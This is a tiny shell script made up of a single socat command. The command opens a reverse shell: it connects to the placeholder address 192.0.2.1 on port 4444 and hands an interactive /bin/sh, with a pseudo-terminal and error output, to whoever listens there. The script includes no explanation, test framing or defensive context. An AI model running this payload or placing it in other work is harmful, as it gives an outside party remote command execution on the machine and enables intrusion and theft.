#!/bin/sh
socat TCP:192.0.2.1:4444 EXEC:/bin/sh,pty,stderr
